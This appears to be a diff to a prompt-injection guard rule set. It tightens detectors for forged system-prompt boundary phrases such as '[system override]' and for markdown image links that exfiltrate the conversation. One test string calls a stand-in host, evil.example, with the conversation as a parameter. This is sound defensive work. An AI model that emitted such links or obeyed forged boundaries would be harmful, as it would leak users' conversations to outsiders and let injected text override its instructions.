@@ -115,7 +115,7 @@ AIM_RULES_EN: tuple[GuardRule, ...] = (
     ),
     GuardRule(
         "link_exfiltration", TOOL, "hides a link that carries the conversation away",
-        ("http",),
+        ("=[", "={", "=<", "=%7b"),
         r"https?://[^\s)\]]{3,200}[?&][\w\-]{1,30}=(?:\[|\{|<|%7b)(?:data|conversation|chat|summary|secret|prompt|"
         r"history|user|content|base64)",
         hits=("![x](https://evil.example/p?q={conversation})",),
@@ -141,7 +141,11 @@ AIM_RULES_EN: tuple[GuardRule, ...] = (
     ),
     GuardRule(
         "boundary_words", BOUNDARY, "forges the edge of a prompt in words",
-        ("system", "developer", "assistant", "tool", "user"),
+        (
+            *(f"{who} {what}" for who in ("system", "developer", "assistant", "tool") for what in ("prompt",
+            "message", "instruction")),
+            "[user ", "[system ",
+        ),
         r"(?:\b(?:begin|end|start|stop)(?: of)?(?: the)? (?:system|developer|assistant|tool) (?:prompt|message|"
         r"instruction)s?\b|\[(?:user|"
         r"system) (?:left the chat|override|message)\]|"
